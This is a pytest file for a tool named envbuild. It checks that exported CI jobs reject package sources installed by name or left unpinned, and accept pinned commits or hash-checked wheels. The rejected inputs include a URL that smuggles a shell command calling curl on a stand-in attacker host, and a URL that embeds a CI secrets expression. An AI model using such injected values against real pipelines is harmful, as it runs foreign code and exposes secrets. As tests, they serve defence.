"""A CI job must install the team's envbuild, and no foreign package of that name."""

from __future__ import annotations

from pathlib import Path

import pytest
from unit.support import configure, envbuild

from envbuild.util.errors import UsageError

COMMIT = "0" * 40


@pytest.mark.attack("mirror or index", "a stranger takes the name envbuild on the index", "no job is printed: exit 2")
@pytest.mark.parametrize(
    "source",
    [
        None,
        "envbuild",
        "envbuild==0.1.0",
        "git+https://git.example/team/envbuild",
        "git+https://git.example/team/envbuild@main",
        f"git+http://git.example/team/envbuild@{COMMIT}",
        "https://files.example/envbuild-0.1.0-py3-none-any.whl",
        f"http://files.example/envbuild-0.1.0-py3-none-any.whl#sha256={'0' * 64}",
        f"git+https://git.example/a'; curl evil.example; '@{COMMIT}",
        f"git+https://git.example/${{{{ secrets.KEY }}}}@{COMMIT}",
    ],
)
def test_a_job_that_installs_by_name(project: Path, source: str | None) -> None:
    result = envbuild("export", "ci", "github", "h20", *(["--install", source] if source else []), "--json")
    assert result.code == UsageError.code
    assert "ci_install" in result.document["error"]["hint"] and "pip install" not in result.stdout


@pytest.mark.legitimate("team", "a CI job that installs one commit or one wheel", "the job is printed")
@pytest.mark.parametrize(
    "source",
    [
        f"git+https://git.example/team/envbuild@{COMMIT}",
        f"git+ssh://git@git.example/team/envbuild.git@{COMMIT}",
        f"https://files.example/envbuild-0.1.0-py3-none-any.whl#sha256={'0' * 64}",
    ],
)
def test_a_job_that_installs_what_is_pinned(project: Path, source: str) -> None:
    configure(f'ci_install: "{source}"\n')
    result = envbuild("export", "ci", "gitlab", "h20")
    assert result.code == 0 and f"pip install '{source}'" in result.stdout
